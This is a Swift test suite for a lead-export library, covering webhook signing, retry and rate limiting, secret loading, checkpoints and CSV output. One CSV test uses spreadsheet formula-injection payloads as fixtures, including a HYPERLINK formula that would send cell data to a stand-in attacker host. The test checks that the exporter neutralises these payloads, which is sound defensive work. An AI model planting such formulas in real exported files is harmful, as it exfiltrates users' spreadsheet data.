@testable import FootfallCore
import FootfallStore
import Foundation
import Testing

@testable import FootfallExport

@Suite struct ExportPartsTests {
    @Test func webhookSignatureMatchesPythonHMAC() {
        // python3 -c "import hmac,hashlib; print(hmac.new(b'whsec_test',
        //   b'1700000000.{\"type\":\"leads.changed\",\"leads\":[]}', hashlib.sha256).hexdigest())"
        let body = Data(#"{"type":"leads.changed","leads":[]}"#.utf8)
        #expect(WebhookSignature.sign(body: body, secret: "whsec_test", timestamp: 1_700_000_000)
            == "t=1700000000,v1=021b39101389e1cdaa6ec34c67f0de42c6b8559b37d7f21773a200ade3a893b3")
    }

    @Test(arguments: [("siteID", "site_id"), ("engagedMs", "engaged_ms"), ("changeSeq", "change_seq"), ("id", "id")])
    func leadJSONKeys(swift: String, json: String) {
        #expect(LeadJSON.snakeCase(swift) == json)
        #expect(LeadJSON.camelCase(json) == swift)
    }

    @Test func keyPagePatternsKeepTheirSpelling() throws {
        var lead = ExportFixtures.acme
        lead.keyPages = ["/Pricing_Plans*": 2]
        let data = try LeadJSON.encoder().encode(lead)
        #expect(String(decoding: data, as: UTF8.self).contains(#""/Pricing_Plans*":2"#))
        #expect(try LeadJSON.decoder().decode(Lead.self, from: data) == lead)
    }

    @Test func backoffGrowsWithJitterAndHonoursRetryAfterUpToTheCap() {
        let policy = RetryPolicy(maxAttempts: 6, baseDelay: 0.5, maxDelay: 8)
        var random = SystemRandomNumberGenerator()
        for attempt in 1...6 {
            let ceiling = min(8, 0.5 * Double(1 << (attempt - 1)))
            let delays = (0..<50).map { _ in policy.delay(afterAttempt: attempt, retryAfter: nil, using: &random) }
            #expect(delays.allSatisfy { $0 >= 0 && $0 <= ceiling })
            #expect(Set(delays).count > 1)
        }
        #expect(policy.delay(afterAttempt: 1, retryAfter: 3, using: &random) == 3)
        #expect(policy.delay(afterAttempt: 1, retryAfter: 120, using: &random) == 8)
        #expect(RetryPolicy.isRetryable(status: 429) && RetryPolicy.isRetryable(status: 503))
        #expect(!RetryPolicy.isRetryable(status: 400) && !RetryPolicy.isRetryable(status: 207))
    }

    @Test func retryAfterIsReadAsSecondsOrAsAnHTTPDate() {
        // RFC 9110 §10.2.3's two forms; 1994-11-06 08:49:37 GMT is 784111777 s after the epoch.
        let now = Date(timeIntervalSince1970: 784_111_777 - 90)
        #expect(RetryPolicy.retryAfterSeconds("120", now: now) == 120)
        #expect(RetryPolicy.retryAfterSeconds(" 0 ", now: now) == 0)
        #expect(RetryPolicy.retryAfterSeconds("Sun, 06 Nov 1994 08:49:37 GMT", now: now) == 90)
        #expect(RetryPolicy.retryAfterSeconds("Sun, 06 Nov 1994 08:49:37 GMT", now: now.addingTimeInterval(600)) == 0)
        #expect(RetryPolicy.retryAfterSeconds("soon", now: now) == nil)
        #expect(RetryPolicy.retryAfterSeconds("-5", now: now) == nil)
    }

    @Test func rollingLimitSpacesTheRequestsBeyondTheLimitByTheWindow() async throws {
        let limiter = RollingRateLimiter(limit: 3, window: .milliseconds(200))
        let clock = ContinuousClock()
        let start = clock.now
        var times: [Duration] = []
        for _ in 0..<7 {
            try await limiter.acquire()
            times.append(clock.now - start)
        }
        #expect(times[2] < .milliseconds(190))
        #expect(times[3] >= .milliseconds(200) && times[6] >= .milliseconds(400))
        // No upper bound: with two cores and parallel suites a resumed sleep can wait seconds
        // for a thread; the spacing above is what the limiter decides.
    }

    @Test func secretsComeFromAVariableOrAnOwnerOnlyFile() throws {
        let store = try TemporaryCatalog()
        let path = store.directory + "/token"
        _ = FileManager.default.createFile(atPath: path, contents: Data("pat-secret\n".utf8), attributes: [.posixPermissions: 0o644])
        #expect(throws: ExportConfigurationError.secretFileTooOpen(path: path)) {
            try SinkSecret.read(settings: ["token_file": path], environment: [:], kind: "hubspot")
        }
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: path)
        #expect(try SinkSecret.read(settings: ["token_file": path], environment: [:], kind: "hubspot") == "pat-secret")
        #expect(try SinkSecret.read(settings: ["token_env": "T"], environment: ["T": "abc"], kind: "hubspot") == "abc")
        #expect(throws: ExportConfigurationError.missingSecret(source: "environment variable T is unset or empty")) {
            try SinkSecret.read(settings: ["token_env": "T"], environment: [:], kind: "hubspot")
        }
    }

    @Test func csvQuotesFieldsAndWritesTheHeaderOnce() async throws {
        var output = Data()
        var sink = CSVLeadSink { output.append($0) }
        var lead = ExportFixtures.acme
        lead.organisation = #"Acme, "the" GmbH"#
        _ = try await sink.send([lead])
        _ = try await sink.send([ExportFixtures.acme])
        let lines = String(decoding: output, as: UTF8.self).components(separatedBy: "\r\n")
        #expect(lines[0] == CSVLeadSink.columns.joined(separator: ","))
        #expect(lines[1].hasPrefix(#"ld_00000000000000a1,1,"Acme, ""the"" GmbH",acme.example,DE,business,42,"#))
        #expect(lines[2].hasPrefix("ld_00000000000000a1,1,Acme GmbH,") && lines.count == 4)
    }

    @Test func exportsByKindKeepACheckpointPerTargetWithoutStoringTheTarget() {
        let one = ExportCheckpoint.name(kind: "webhook", target: "https://hooks.example/catch/T0KEN-1")
        let two = ExportCheckpoint.name(kind: "webhook", target: "https://hooks.example/catch/T0KEN-2")
        #expect(one != two && one.hasPrefix("webhook@") && one.count == "webhook@".count + 16)
        #expect(!one.contains("T0KEN") && one == ExportCheckpoint.name(kind: "webhook", target: "https://hooks.example/catch/T0KEN-1"))
    }

    @Test func csvNeutralisesFormulasAndEscapesListSeparators() throws {
        var lead = ExportFixtures.acme
        lead.organisation = "@SUM(A1)"
        lead.campaigns = [LeadCount(name: #"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#, count: 1),
                          LeadCount(name: "a;b=c%", count: 2)]
        let text = CSVLeadSink.text([lead], header: false)
        let cells = text.dropLast(2).components(separatedBy: ",")
        #expect(cells[2] == "'@SUM(A1)")
        #expect(text.contains(#","%3DHYPERLINK(""http://evil.example/?x%3D""&A1,""Click"")=1;a%3Bb%3Dc%25=2","#))
        #expect(CSVLeadSink.quoted("-12") == "-12" && CSVLeadSink.quoted("-x") == "'-x" && CSVLeadSink.quoted("\tx") == "'\tx")
    }

    @Test func sinksAreStoredPerTenantWithoutSecretsAndRemovedWithTheirCheckpoints() async throws {
        let store = try TemporaryCatalog()
        let tenant = try await store.catalog.tenant(named: "default")
        let sink = ExportSink(tenantID: tenant.id, name: "main", kind: "hubspot", settings: ["token_env": "HUBSPOT_TOKEN"])
        try await store.catalog.saveExportSink(sink)
        #expect(try await store.catalog.exportSinks(tenantID: tenant.id) == [sink])
        await #expect(throws: CatalogError.invalidSinkName("Main Sink")) {
            try await store.catalog.saveExportSink(ExportSink(tenantID: tenant.id, name: "Main Sink", kind: "csv"))
        }
        try await store.catalog.saveExportCheckpoint(ExportCheckpoint(tenantID: tenant.id, sink: "main", changeSeq: 9))
        try await store.catalog.saveExportCheckpoint(ExportCheckpoint(tenantID: tenant.id, sink: "main", changeSeq: 4))
        #expect(try await store.catalog.exportCheckpoint(tenantID: tenant.id, sink: "main").changeSeq == 9)
        try await store.catalog.removeExportSink(tenantID: tenant.id, name: "main")
        #expect(try await store.catalog.exportCheckpoint(tenantID: tenant.id, sink: "main").changeSeq == 0)
        await #expect(throws: CatalogError.unknownSink("main")) {
            try await store.catalog.removeExportSink(tenantID: tenant.id, name: "main")
        }
    }

    @Test func factoryResolvesTheAPIBaseFromFlagThenVariableThenVendor() throws {
        #expect(try SinkFactory.apiBase(.hubspot, settings: [:], environment: [:]) == "https://api.hubapi.com")
        #expect(try SinkFactory.apiBase(.hubspot, settings: [:], environment: ["HUBSPOT_API_BASE": "http://127.0.0.1:9/"])
            == "http://127.0.0.1:9")
        #expect(try SinkFactory.apiBase(.hubspot, settings: ["api_base": "http://127.0.0.1:8"],
                                        environment: ["HUBSPOT_API_BASE": "http://127.0.0.1:9"]) == "http://127.0.0.1:8")
        #expect(throws: ExportConfigurationError.missingSetting(kind: "salesforce", setting: "api_base")) {
            try SinkFactory.apiBase(.salesforce, settings: [:], environment: [:])
        }
        #expect(throws: ExportConfigurationError.self) {
            try SinkFactory.apiBase(.pipedrive, settings: ["api_base": "ftp://x"], environment: [:])
        }
    }
}
